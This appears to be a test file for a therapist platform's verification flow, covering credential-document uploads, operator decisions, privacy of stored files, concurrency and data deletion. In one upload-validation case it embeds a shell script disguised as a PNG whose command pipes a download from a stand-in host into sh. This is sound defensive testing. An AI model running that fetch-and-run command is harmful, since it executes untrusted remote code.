// Professional verification (issue 32): submission, the private document, the operators' decision,
// publication only when verified, CRP/CPF unique among therapists. On PGlite and, with
// DATABASE_URL, on PostgreSQL.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { MODERACAO_MSG, OPERACAO_MSG, VERIFICACAO_MSG } from '@acolhe/shared-domain';
import { createReadyTherapist, json, multipart, newClient, newOperador, newTherapist, PNG_1x1, profileBody, startTestApp, uniqueRegistration, useTestApp, usingPostgres, waitFor, weekdaySchedule, type TestUser } from '../../testing/helpers';
import { createDatabase } from '../db/client';
import { verificationDocument } from '../../testing/inventory';
import { LocalDiskStorage } from '../uploads/storage';
import { apagarDocumentosVencidos } from './service';

const t = useTestApp();

const operador = newOperador('verificadora');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

async function submit(user: TestUser, crp: string, doc = verificationDocument(crp)) {
  return t.app.inject({
    method: 'POST',
    url: `/terapeutas/${user.sub}/verificacao`,
    headers: { authorization: `Bearer ${await t.token(user)}`, ...doc.headers },
    payload: doc.payload,
  });
}

/** A therapist with a complete profile and an open week, never verified. */
async function unverifiedTherapist(name = 'Helena Pendente'): Promise<{ user: TestUser; crp: string }> {
  const user = newTherapist(name);
  const registration = uniqueRegistration();
  const saved = await t.call({ method: 'POST', url: '/terapeutas', user, body: profileBody({ fullName: name, sessionFormats: ['online'], ...registration }) });
  expect(saved.statusCode).toBe(200);
  const week = await t.call({ method: 'POST', url: `/agenda/terapeutas/${user.sub}/disponibilidade`, user, body: { schedule: weekdaySchedule(), sessionDuration: 60 } });
  expect(week.statusCode).toBe(200);
  return { user, crp: registration.crp };
}

type Item = { terapeutaId: string; crp: string; documento: { id: string } | null };
/** What the console shows of a therapist in analysis: the CRP and the document's id its decision names back. */
async function visto(id: string): Promise<{ crp: string; documentoId: string | null }> {
  const queue = json<{ content: Item[] }>(await t.call({ method: 'GET', url: '/operacao/verificacoes?estado=em_analise&size=200', user: operador }));
  const item = queue.content.find((c) => c.terapeutaId === id);
  return item ? { crp: item.crp, documentoId: item.documento?.id ?? null } : { crp: '00/00000', documentoId: null };
}
/** The decision as the console sends it: with what the queue shows now, unless the body names it. */
const decide = async (id: string, body: Record<string, unknown>, user: TestUser = operador) =>
  t.call({ method: 'POST', url: `/operacao/verificacoes/${id}`, user, body: { ...(await visto(id)), ...body } });
const listed = async (id: string) => (json<{ content: { id: string }[] }>(await t.call({ method: 'GET', url: '/public-terapeutas' })).content.some((p) => p.id === id));
const auditOf = async (id: string) =>
  json<{ content: { acao: string; motivo: string | null }[] }>(await t.call({ method: 'GET', url: `/operacao/auditoria?alvoId=${id}`, user: operador })).content;

describe('a therapist submits the CRP and the carteira', () => {
  it('moves to em_analise, the document stored under the private prefix, and reads its own state', async () => {
    const { user, crp } = await unverifiedTherapist();
    const before = json<{ estado: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user }));
    expect(before.estado).toBe('nao_enviado');
    const res = await submit(user, `CRP ${crp.replace('/', '-')}`);
    expect(res.statusCode).toBe(200);
    expect(json(res)).toMatchObject({ estado: 'em_analise', crp, conselho: 'CRP-06 (SP)', motivo: null, documento: { tipo: 'image/png', tamanho: PNG_1x1.length } });
    const keys = [...t.storage.files.keys()].filter((k) => k.includes(user.sub));
    expect(keys).toHaveLength(1);
    expect(keys[0]).toMatch(new RegExp(`^verificacoes/${user.sub}/[0-9a-f-]{36}/documento\\.png$`));
    const read = await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user });
    expect(read.headers['cache-control']).toBe('private, no-store');
    expect(json(read)).toMatchObject({ estado: 'em_analise' });
  });

  it('refuses bad input with a pt-BR 4xx and writes nothing', async () => {
    const { user, crp } = await unverifiedTherapist('Iara Cuidadosa');
    const cases: [string, Awaited<ReturnType<typeof submit>>, number, string, string][] = [
      ['malformed CRP', await submit(user, '6/12'), 400, 'crp', VERIFICACAO_MSG.crpInvalido],
      ['unknown region', await submit(user, '25/123456'), 400, 'crp', VERIFICACAO_MSG.crpInvalido],
      ['a script named .png', await submit(user, crp, verificationDocument(crp, Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'carteira.png')), 400, 'documento', VERIFICACAO_MSG.documentoTipo],
      ['a GIF', await submit(user, crp, verificationDocument(crp, Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), 'carteira.gif', 'image/gif')), 400, 'documento', VERIFICACAO_MSG.documentoTipo],
      ['an empty file', await submit(user, crp, verificationDocument(crp, Buffer.alloc(0))), 400, 'documento', VERIFICACAO_MSG.documentoObrigatorio],
      ['6 MB', await submit(user, crp, verificationDocument(crp, Buffer.concat([PDF, Buffer.alloc(6 * 1024 * 1024)]), 'carteira.pdf', 'application/pdf')), 413, 'documento', VERIFICACAO_MSG.documentoGrande],
    ];
    for (const [label, res, status, field, message] of cases) {
      expect({ label, status: res.statusCode }).toEqual({ label, status });
      expect({ label, body: json(res) }).toEqual({ label, body: { message, fieldErrors: { [field]: message } } });
    }
    const notMultipart = await t.call({ method: 'POST', url: `/terapeutas/${user.sub}/verificacao`, user, body: { crp } });
    expect(notMultipart.statusCode).toBe(415);
    expect([...t.storage.files.keys()].some((k) => k.includes(user.sub))).toBe(false);
    expect(json<{ estado: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user })).estado).toBe('nao_enviado');
  });

  it('needs a valid CPF in the profile', async () => {
    const user = newTherapist('Sem Perfil');
    // the account exists (first signed-in request), the profile was never saved: no CPF
    await t.call({ method: 'GET', url: `/terapeutas/${user.sub}`, user });
    const res = await submit(user, uniqueRegistration().crp);
    expect(res.statusCode).toBe(400);
    expect(json(res)).toEqual({ message: VERIFICACAO_MSG.cpfNecessario, fieldErrors: { cpf: VERIFICACAO_MSG.cpfNecessario } });
  });

  it('is the owner’s only: another therapist, a client and the anonymous cannot submit or read', async () => {
    const { user, crp } = await unverifiedTherapist('Dona Própria');
    for (const other of [newTherapist('Intrusa'), newClient('Cliente Curioso')]) {
      const doc = verificationDocument(crp);
      const res = await t.app.inject({ method: 'POST', url: `/terapeutas/${user.sub}/verificacao`, headers: { authorization: `Bearer ${await t.token(other)}`, ...doc.headers }, payload: doc.payload });
      expect(res.statusCode).toBe(403);
      expect((await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user: other })).statusCode).toBe(403);
    }
    expect((await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao` })).statusCode).toBe(401);
  });
});

describe('the document is private', () => {
  it('only operators read it, with no-store and inline, and every read is audited', async () => {
    const { user, crp } = await unverifiedTherapist('Joana Documentada');
    expect((await submit(user, crp, verificationDocument(crp, PDF, 'carteira.pdf', 'application/pdf'))).statusCode).toBe(200);
    const url = `/operacao/verificacoes/${user.sub}/documento`;
    expect((await t.call({ method: 'GET', url })).statusCode).toBe(401);
    for (const who of [user, newTherapist('Outra'), newClient('Cliente')]) {
      const res = await t.call({ method: 'GET', url, user: who });
      expect(res.statusCode).toBe(403);
      expect(json(res)).toEqual({ message: OPERACAO_MSG.somenteOperadores });
    }
    expect((await auditOf(user.sub)).filter((e) => e.acao === 'documento.ler')).toHaveLength(0);
    const res = await t.call({ method: 'GET', url, user: operador });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.headers['content-disposition']).toBe('inline');
    expect(res.rawPayload.equals(PDF)).toBe(true);
    expect((await auditOf(user.sub)).filter((e) => e.acao === 'documento.ler')).toHaveLength(1);
  });

  it('is never served at the public /uploads URL (disk storage)', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'acolhe-verif-'));
    const disk = await startTestApp({ storage: new LocalDiskStorage(dir, 'http://localhost:4000'), configOverrides: { uploadsDir: dir } });
    try {
      const user = newTherapist('Disco Privado');
      const registration = uniqueRegistration();
      expect((await disk.call({ method: 'POST', url: '/terapeutas', user, body: profileBody(registration) })).statusCode).toBe(200);
      const doc = verificationDocument(registration.crp);
      const sent = await disk.app.inject({ method: 'POST', url: `/terapeutas/${user.sub}/verificacao`, headers: { authorization: `Bearer ${await disk.token(user)}`, ...doc.headers }, payload: doc.payload });
      expect(sent.statusCode).toBe(200);
      const stored = await new LocalDiskStorage(dir, 'http://localhost:4000').list(`verificacoes/${user.sub}`);
      expect(stored).toHaveLength(1);
      const key = stored[0]!.replace('http://localhost:4000/uploads/', '');
      // a photo upload of the same storage is served; the document is not, however the path is spelled
      const png = multipart({ filename: 'foto.png', contentType: 'image/png', bytes: PNG_1x1 });
      const photo = await disk.app.inject({ method: 'POST', url: `/terapeutas/${user.sub}/upload-profile-image`, headers: { authorization: `Bearer ${await disk.token(user)}`, ...png.headers }, payload: png.payload });
      expect(photo.statusCode).toBe(200);
      expect((await disk.app.inject({ method: 'GET', url: new URL(json<{ url: string }>(photo).url).pathname })).statusCode).toBe(200);
      for (const spelled of [`/uploads/${key}`, `/uploads/./${key}`, `/uploads/${key.replace('verificacoes', 'verificac%6Fes')}`, `/uploads//${key}`]) {
        const status = (await disk.app.inject({ method: 'GET', url: spelled })).statusCode;
        // 404, or the static server's 403 for a path it does not take
        expect({ spelled, refused: status === 404 || status === 403 }).toEqual({ spelled, refused: true });
      }
      // the operator reads it through the api
      expect((await disk.call({ method: 'GET', url: `/operacao/verificacoes/${user.sub}/documento`, user: operador })).statusCode).toBe(200);
    } finally {
      await disk.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the operators decide', () => {
  it('lists the queue oldest first with the CPF masked and the CFP register', async () => {
    t.clock.set('2030-01-10T12:00:00Z');
    const first = await unverifiedTherapist('Primeira Fila');
    expect((await submit(first.user, first.crp)).statusCode).toBe(200);
    t.clock.set('2030-01-11T12:00:00Z');
    const second = await unverifiedTherapist('Segunda Fila');
    expect((await submit(second.user, second.crp)).statusCode).toBe(200);
    t.clock.set('2030-01-16T13:00:00Z');
    const queue = json<{ content: { terapeutaId: string; cpf: string; cadastroCfpUrl: string; conselho: string }[] }>(
      await t.call({ method: 'GET', url: '/operacao/verificacoes?size=200', user: operador }),
    );
    const ids = queue.content.map((c) => c.terapeutaId);
    expect(ids.indexOf(first.user.sub)).toBeGreaterThanOrEqual(0);
    expect(ids.indexOf(first.user.sub)).toBeLessThan(ids.indexOf(second.user.sub));
    const item = queue.content.find((c) => c.terapeutaId === first.user.sub)!;
    expect(item.cpf).toMatch(/^\d{3}\.\*\*\*\.\*\*\*-\d{2}$/);
    expect(item.cadastroCfpUrl).toBe('https://cadastro.cfp.org.br/');
    expect((await t.call({ method: 'GET', url: '/operacao/verificacoes?estado=aprovada', user: operador })).statusCode).toBe(400);
  });

  it('approving publishes the profile with crpVerificadoEm, tells the therapist, audits; deciding again → 409', async () => {
    const { user, crp } = await unverifiedTherapist('Lara Aprovada');
    expect(await listed(user.sub)).toBe(false);
    expect((await submit(user, crp)).statusCode).toBe(200);
    expect(await listed(user.sub)).toBe(false);
    t.clock.set('2030-01-17T02:30:00Z'); // 23:30 of the 16th in São Paulo
    const res = await decide(user.sub, { decisao: 'aprovar' });
    expect(res.statusCode).toBe(200);
    expect(json(res)).toMatchObject({ estado: 'verificado', motivo: null });
    expect(await listed(user.sub)).toBe(true);
    const page = json<{ crpVerificadoEm: string | null }>(await t.call({ method: 'GET', url: `/public-terapeutas/${user.sub}` }));
    expect(page.crpVerificadoEm).toBe('2030-01-16');
    expect((await auditOf(user.sub)).map((e) => e.acao)).toContain('verificacao.aprovar');
    const inbox = json<{ content: { tipo: string }[] }>(await t.call({ method: 'GET', url: '/notificacoes', user }));
    expect(inbox.content.map((n) => n.tipo)).toContain('verificacao-aprovada');
    const outbox = (await t.db.execute(sql`SELECT email_to FROM notificacoes WHERE conta_id = ${user.sub} AND tipo = 'verificacao-aprovada'`)) as unknown as { rows: { email_to: string }[] };
    expect(outbox.rows[0]?.email_to).toBe(user.email);
    t.clock.set('2030-01-16T13:00:00Z');
    const again = await decide(user.sub, { decisao: 'recusar', motivo: 'Tarde demais' });
    expect(again.statusCode).toBe(409);
    expect(json(again)).toEqual({ message: VERIFICACAO_MSG.jaDecidida });
    // nothing submitted at all: 409 too
    const never = await unverifiedTherapist('Nunca Enviou');
    expect((await decide(never.user.sub, { decisao: 'aprovar' })).statusCode).toBe(409);
  });

  it('refusing needs a reason, which the therapist reads; a new submission is allowed', async () => {
    const { user, crp } = await unverifiedTherapist('Rita Recusada');
    expect((await submit(user, crp)).statusCode).toBe(200);
    const noReason = await decide(user.sub, { decisao: 'recusar' });
    expect(noReason.statusCode).toBe(400);
    expect(json(noReason)).toMatchObject({ fieldErrors: { motivo: VERIFICACAO_MSG.motivoRecusa } });
    expect((await decide(user.sub, { decisao: 'talvez' })).statusCode).toBe(400);
    const refused = await decide(user.sub, { decisao: 'recusar', motivo: 'O número do CRP não confere com a carteira.' });
    expect(refused.statusCode).toBe(200);
    const mine = json<{ estado: string; motivo: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user }));
    expect(mine).toMatchObject({ estado: 'recusado', motivo: 'O número do CRP não confere com a carteira.' });
    const inbox = json<{ content: { tipo: string; mensagem: string }[] }>(await t.call({ method: 'GET', url: '/notificacoes', user }));
    expect(inbox.content.find((n) => n.tipo === 'verificacao-recusada')?.mensagem).toContain('O número do CRP não confere com a carteira.');
    expect(await listed(user.sub)).toBe(false);
    expect((await submit(user, crp)).statusCode).toBe(200);
    expect(json<{ estado: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user })).estado).toBe('em_analise');
    // only one document kept: the refused one was replaced
    expect([...t.storage.files.keys()].filter((k) => k.includes(user.sub))).toHaveLength(1);
  });

  it('an operator cannot decide on their own account: 403', async () => {
    const { user, crp } = await unverifiedTherapist('Operadora Terapeuta');
    expect((await submit(user, crp)).statusCode).toBe(200);
    const self = { ...operador, sub: user.sub };
    const res = await decide(user.sub, { decisao: 'aprovar' }, self);
    expect(res.statusCode).toBe(403);
    expect(json(res)).toEqual({ message: OPERACAO_MSG.naoSobreSiMesmo });
    expect(json<{ estado: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user })).estado).toBe('em_analise');
  });
});

describe('a verification is of what the operator saw (issue 40 item 3)', () => {
  /** A therapist in analysis, with the registration their profile was saved with. */
  async function inAnalysis(name: string) {
    const user = newTherapist(name);
    const registration = uniqueRegistration();
    const body = (crp: string) => profileBody({ fullName: name, sessionFormats: ['online'], ...registration, crp });
    expect((await t.call({ method: 'POST', url: '/terapeutas', user, body: body(registration.crp) })).statusCode).toBe(200);
    expect((await t.call({ method: 'POST', url: `/agenda/terapeutas/${user.sub}/disponibilidade`, user, body: { schedule: weekdaySchedule(), sessionDuration: 60 } })).statusCode).toBe(200);
    expect((await submit(user, registration.crp)).statusCode).toBe(200);
    return { user, crp: registration.crp, body };
  }
  const state = async (user: TestUser) => json<{ estado: string; crp: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user }));
  const decisions = async (id: string) => (await auditOf(id)).filter((e) => e.acao.startsWith('verificacao.'));

  it('the profile refuses a new CRP while it is in analysis: 409 at the CRP field, nothing changed; the same CRP saves', async () => {
    const { user, crp, body } = await inAnalysis('Clara Em Análise');
    const swap = await t.call({ method: 'PUT', url: `/terapeutas/${user.sub}`, user, body: { ...body(uniqueRegistration().crp), bio: 'Outra bio, que não deve ser salva.' } });
    expect(swap.statusCode).toBe(409);
    expect(json(swap)).toEqual({ message: VERIFICACAO_MSG.crpEmAnalise, fieldErrors: { crp: VERIFICACAO_MSG.crpEmAnalise } });
    expect(await state(user)).toMatchObject({ estado: 'em_analise', crp });
    const profile = json<{ crp: string; bio: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}`, user }));
    expect(profile).toMatchObject({ crp });
    expect(profile.bio).not.toBe('Outra bio, que não deve ser salva.');
    // the same CRP (however typed) is no change: the rest of the profile saves
    const same = await t.call({ method: 'PUT', url: `/terapeutas/${user.sub}`, user, body: { ...body(`CRP ${crp.replace('/', '-')}`), bio: 'Bio revista enquanto a verificação corre.' } });
    expect(same.statusCode).toBe(200);
    expect(await state(user)).toMatchObject({ estado: 'em_analise', crp });
  });

  it('a decision naming a CRP or a document that is no longer the verification’s: 409, nothing decided; what is there now can be decided', async () => {
    const { user, crp } = await inAnalysis('Bruna Reenviou');
    const seen = await visto(user.sub);
    expect(seen).toEqual({ crp, documentoId: expect.stringMatching(/^[0-9a-f-]{36}$/) });
    // after the operator's view, the therapist sends another CRP with its carteira (allowed: it restarts the review)
    const other = uniqueRegistration().crp;
    expect((await submit(user, other)).statusCode).toBe(200);
    const now = await visto(user.sub);
    expect(now.crp).toBe(other);
    expect(now.documentoId).not.toBe(seen.documentoId);
    for (const stale of [seen, { crp: other, documentoId: seen.documentoId }, { crp, documentoId: now.documentoId }, { crp: other, documentoId: null }]) {
      const res = await decide(user.sub, { decisao: 'aprovar', ...stale });
      expect([res.statusCode, json(res)]).toEqual([409, { message: VERIFICACAO_MSG.verificacaoMudou }]);
    }
    expect(await state(user)).toMatchObject({ estado: 'em_analise', crp: other });
    expect(await decisions(user.sub)).toEqual([]);
    expect(await listed(user.sub)).toBe(false);
    const inbox = json<{ content: { tipo: string }[] }>(await t.call({ method: 'GET', url: '/notificacoes', user }));
    expect(inbox.content.map((n) => n.tipo)).not.toContain('verificacao-aprovada');
    // the CRP typed another way is the same CRP
    const approved = await decide(user.sub, { decisao: 'aprovar', crp: `CRP ${other.replace('/', '-')}`, documentoId: now.documentoId });
    expect(approved.statusCode).toBe(200);
    expect(json(approved)).toMatchObject({ estado: 'verificado', crp: other });
    expect(await decisions(user.sub)).toEqual([expect.objectContaining({ acao: 'verificacao.aprovar' })]);
    // a decision without what was reviewed is refused before anything
    const bare = await t.call({ method: 'POST', url: `/operacao/verificacoes/${user.sub}`, user: operador, body: { decisao: 'recusar', motivo: 'x' } });
    expect([bare.statusCode, json<{ message: string }>(bare).message]).toEqual([400, VERIFICACAO_MSG.decisaoSemConferencia]);
  });

  it('the race: a CRP change committed after the operator’s view and before the decision (the old path around the profile) is never approved', async () => {
    const { user, crp } = await inAnalysis('Diana Corrida');
    const seen = await visto(user.sub);
    // what the old profile save did: a new CRP in place, the state and the document kept
    const swapped = uniqueRegistration().crp;
    await t.db.execute(sql`UPDATE terapeutas SET crp = ${swapped} WHERE id = ${user.sub}`);
    const res = await decide(user.sub, { decisao: 'aprovar', ...seen });
    expect([res.statusCode, json(res)]).toEqual([409, { message: VERIFICACAO_MSG.verificacaoMudou }]);
    expect(await state(user)).toMatchObject({ estado: 'em_analise', crp: swapped });
    expect(await listed(user.sub)).toBe(false);
    // the same CRP as seen, put back: the document is still the one reviewed, so it decides
    await t.db.execute(sql`UPDATE terapeutas SET crp = ${crp} WHERE id = ${user.sub}`);
    expect((await decide(user.sub, { decisao: 'recusar', motivo: 'Carteira ilegível.', ...seen })).statusCode).toBe(200);
  });

  if (usingPostgres) {
    it('PostgreSQL: a change committed while the decision waits for the therapist’s row lock — the decision re-reads it and refuses', async () => {
      const { user } = await inAnalysis('Elisa Bloqueada');
      const seen = await visto(user.sub);
      const other = await createDatabase({ databaseUrl: process.env.DATABASE_URL, poolSize: 1 });
      let pending: ReturnType<typeof decide> | undefined;
      try {
        await other.db.transaction(async (tx) => {
          // the therapist's new submission, holding the row's lock (uncommitted) …
          await tx.execute(sql`UPDATE terapeutas SET crp = ${uniqueRegistration().crp}, verificacao_documento_chave = ${`verificacoes/${user.sub}/outro/documento.pdf`} WHERE id = ${user.sub}`);
          // … while the operator's decision of what was there before arrives and waits for it
          const decision = decide(user.sub, { decisao: 'aprovar', ...seen });
          await waitFor(async () => {
            const { rows } = (await t.db.execute(sql`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'`)) as unknown as { rows: { n: number }[] };
            return rows[0]!.n > 0;
          });
          pending = decision;
        });
        const res = await pending!;
        expect([res.statusCode, json(res)]).toEqual([409, { message: VERIFICACAO_MSG.verificacaoMudou }]);
        expect(await state(user)).toMatchObject({ estado: 'em_analise' });
        expect(await decisions(user.sub)).toEqual([]);
      } finally {
        await other.close();
      }
    });
  }
});

describe('publication requires verification', () => {
  it('unverified, refused or sent back to analysis: not listed, page 404, no slots, booking refused', async () => {
    const client = newClient('Cliente Atenta');
    const { user, crp } = await unverifiedTherapist('Vera Invisível');
    const check = async (expected: boolean) => {
      expect(await listed(user.sub)).toBe(expected);
      expect((await t.call({ method: 'GET', url: `/public-terapeutas/${user.sub}` })).statusCode).toBe(expected ? 200 : 404);
      const slots = json<unknown[]>(await t.call({ method: 'GET', url: `/agenda/terapeutas/${user.sub}/slots-mes?year=2030&month=2` }));
      expect(slots.length > 0).toBe(expected);
      const booking = await t.call({ method: 'POST', url: '/sessoes', user: client, body: { therapistId: user.sub, date: '2030-02-04', time: expected ? '09:00' : '10:00' } });
      expect(booking.statusCode).toBe(expected ? 201 : 409);
      if (!expected) expect(json(booking)).toEqual({ message: MODERACAO_MSG.suspensoIndisponivel });
    };
    await check(false);
    expect((await submit(user, crp)).statusCode).toBe(200);
    await check(false);
    expect((await decide(user.sub, { decisao: 'aprovar' })).statusCode).toBe(200);
    await check(true);
    // a new CRP in the profile: back to analysis, off the lists
    const changed = await t.call({ method: 'PUT', url: `/terapeutas/${user.sub}`, user, body: profileBody({ fullName: 'Vera Invisível', sessionFormats: ['online'], crp: uniqueRegistration().crp }) });
    expect(changed.statusCode).toBe(200);
    expect(json<{ estado: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}/verificacao`, user })).estado).toBe('em_analise');
    expect(await listed(user.sub)).toBe(false);
    expect((await t.call({ method: 'GET', url: `/public-terapeutas/${user.sub}` })).statusCode).toBe(404);
  });

  it('saving the profile with the same CRP keeps a verified therapist listed', async () => {
    const user = await createReadyTherapist(t, { user: newTherapist('Estável Verificada') });
    const current = json<{ crp: string; cpf: string }>(await t.call({ method: 'GET', url: `/terapeutas/${user.sub}`, user }));
    const saved = await t.call({ method: 'PUT', url: `/terapeutas/${user.sub}`, user, body: profileBody({ sessionFormats: ['online'], crp: current.crp, cpf: current.cpf, bio: 'Uma bio nova e mais longa.' }) });
    expect(saved.statusCode).toBe(200);
    expect(await listed(user.sub)).toBe(true);
  });
});

describe('CRP and CPF are unique among therapists', () => {
  it('8 concurrent saves of one CRP: exactly one wins, the others get 409 crpEmUso', async () => {
    const { crp } = uniqueRegistration();
    const users = Array.from({ length: 8 }, (_, i) => newTherapist(`Concorrente ${i}`));
    const answers = await Promise.all(users.map((user) => t.call({ method: 'POST', url: '/terapeutas', user, body: profileBody({ crp }) })));
    const statuses = answers.map((a) => a.statusCode).sort();
    expect(statuses).toEqual([200, 409, 409, 409, 409, 409, 409, 409]);
    for (const a of answers.filter((r) => r.statusCode === 409)) expect(json(a)).toEqual({ message: VERIFICACAO_MSG.crpEmUso, fieldErrors: { crp: VERIFICACAO_MSG.crpEmUso } });
    const n = (await t.db.execute(sql`SELECT count(*)::int AS n FROM terapeutas WHERE crp = ${crp}`)) as unknown as { rows: { n: number }[] };
    expect(n.rows[0]!.n).toBe(1);
  });

  it('8 concurrent saves of one CPF: exactly one wins, the others get 409 cpfEmUso', async () => {
    const { cpf } = uniqueRegistration();
    const users = Array.from({ length: 8 }, (_, i) => newTherapist(`Mesmo CPF ${i}`));
    const answers = await Promise.all(users.map((user) => t.call({ method: 'POST', url: '/terapeutas', user, body: profileBody({ cpf }) })));
    expect(answers.map((a) => a.statusCode).sort()).toEqual([200, 409, 409, 409, 409, 409, 409, 409]);
    for (const a of answers.filter((r) => r.statusCode === 409)) expect(json(a)).toEqual({ message: VERIFICACAO_MSG.cpfEmUso, fieldErrors: { cpf: VERIFICACAO_MSG.cpfEmUso } });
  });

  it('a submission with another therapist’s CRP: 409, and its document is not kept', async () => {
    const holder = await createReadyTherapist(t, { user: newTherapist('Dona do CRP') });
    const taken = json<{ crp: string }>(await t.call({ method: 'GET', url: `/terapeutas/${holder.sub}`, user: holder })).crp;
    const { user } = await unverifiedTherapist('Copiadora');
    const res = await submit(user, taken);
    expect(res.statusCode).toBe(409);
    expect(json(res)).toEqual({ message: VERIFICACAO_MSG.crpEmUso, fieldErrors: { crp: VERIFICACAO_MSG.crpEmUso } });
    expect([...t.storage.files.keys()].some((k) => k.includes(user.sub))).toBe(false);
  });
});

describe('an erased therapist', () => {
  it('leaves no verification document behind, and the CRP is free again', async () => {
    const { user, crp } = await unverifiedTherapist('Apagada Depois');
    expect((await submit(user, crp)).statusCode).toBe(200);
    expect([...t.storage.files.keys()].some((k) => k.startsWith(`verificacoes/${user.sub}/`))).toBe(true);
    expect((await t.call({ method: 'DELETE', url: '/me', user })).statusCode).toBe(204);
    expect([...t.storage.files.keys()].some((k) => k.startsWith(`verificacoes/${user.sub}/`))).toBe(false);
    const again = newTherapist('Nova Dona do CRP');
    expect((await t.call({ method: 'POST', url: '/terapeutas', user: again, body: profileBody({ crp }) })).statusCode).toBe(200);
  });
});

describe('documents are deleted 90 days after the decision', () => {
  it('by the sweep, once, and never a document still in analysis', async () => {
    const decided = await unverifiedTherapist('Decidida Antiga');
    const waiting = await unverifiedTherapist('Ainda Em Análise');
    t.clock.set('2030-01-16T13:00:00Z');
    expect((await submit(decided.user, decided.crp)).statusCode).toBe(200);
    expect((await submit(waiting.user, waiting.crp)).statusCode).toBe(200);
    expect((await decide(decided.user.sub, { decisao: 'aprovar' })).statusCode).toBe(200);
    const has = (id: string) => [...t.storage.files.keys()].some((k) => k.startsWith(`verificacoes/${id}/`));
    await apagarDocumentosVencidos(t.db, t.storage, new Date('2030-04-15T13:00:00Z')); // 89 days
    expect(has(decided.user.sub)).toBe(true);
    expect(await apagarDocumentosVencidos(t.db, t.storage, new Date('2030-04-17T13:00:00Z'))).toBeGreaterThanOrEqual(1);
    expect(has(decided.user.sub)).toBe(false);
    expect(has(waiting.user.sub)).toBe(true);
    expect(json<{ documento: unknown }>(await t.call({ method: 'GET', url: `/terapeutas/${decided.user.sub}/verificacao`, user: decided.user })).documento).toBeNull();
    expect((await t.call({ method: 'GET', url: `/operacao/verificacoes/${decided.user.sub}/documento`, user: operador })).statusCode).toBe(404);
    // a second round (a restart) finds nothing more to do
    await apagarDocumentosVencidos(t.db, t.storage, new Date('2030-04-17T13:00:00Z'));
    expect(has(waiting.user.sub)).toBe(true);
    t.clock.set('2030-01-16T13:00:00Z');
  });
});
